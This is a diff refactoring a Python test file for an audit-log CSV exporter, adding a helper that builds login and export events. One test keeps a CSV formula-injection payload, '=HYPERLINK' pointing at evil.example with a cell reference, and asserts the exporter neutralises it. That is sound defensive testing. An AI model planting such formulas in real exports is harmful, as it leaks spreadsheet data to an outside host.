@@ -5,6 +5,7 @@ from __future__ import annotations
 import csv
 import io
 from datetime import UTC, datetime
+from typing import Any
 
 import pandas as pd
 
@@ -12,13 +13,16 @@ from nano_export.models import AuditEvent
 from nano_export.ui.tables import audit_csv, audit_frame, blank_nulls
 
 
-def test_the_audit_csv_guards_formulas_typed_as_login_names() -> None:
-    events = [
+def _login_then_export(
+    login_actor: str, *, rows: int, details: dict[str, Any] | None = None
+) -> list[AuditEvent]:
+    """A failed login at 12:00, then ann's succeeded export of ``rows`` rows at 12:05."""
+    return [
         AuditEvent(
             id=1,
             at=datetime(2025, 8, 10, 12, 0, tzinfo=UTC),
             event="login.failed",
-            actor='=HYPERLINK("http://evil.example/?"&A2,"click")',
+            actor=login_actor,
             interface="dashboard",
         ),
         AuditEvent(
@@ -27,10 +31,16 @@ def test_the_audit_csv_guards_formulas_typed_as_login_names() -> None:
             event="export.succeeded",
             actor="ann",
             export_id="abc",
-            rows=12,
-            details={"bytes": 10},
+            rows=rows,
+            details=details or {},
         ),
     ]
+
+
+def test_the_audit_csv_guards_formulas_typed_as_login_names() -> None:
+    events = _login_then_export(
+        '=HYPERLINK("http://evil.example/?"&A2,"click")', rows=12, details={"bytes": 10}
+    )
     data = audit_csv(audit_frame(events))
     rows = list(csv.DictReader(io.StringIO(data.decode("utf-8"), newline="")))
     assert rows[1]["actor"].startswith("'=HYPERLINK(")
@@ -40,23 +50,7 @@ def test_the_audit_csv_guards_formulas_typed_as_login_names() -> None:
 
 
 def test_empty_cells_show_as_blanks_not_none() -> None:
-    events = [
-        AuditEvent(
-            id=1,
-            at=datetime(2025, 8, 10, 12, 0, tzinfo=UTC),
-            event="login.failed",
-            actor="ann",
-            interface="dashboard",
-        ),
-        AuditEvent(
-            id=2,
-            at=datetime(2025, 8, 10, 12, 5, tzinfo=UTC),
-            event="export.succeeded",
-            actor="ann",
-            export_id="abc",
-            rows=1234,
-        ),
-    ]
+    events = _login_then_export("ann", rows=1234)
     shown = blank_nulls(audit_frame(events))
     assert shown.drop(columns=["at"]).notna().all().all()
     login = shown.iloc[1]  # newest first
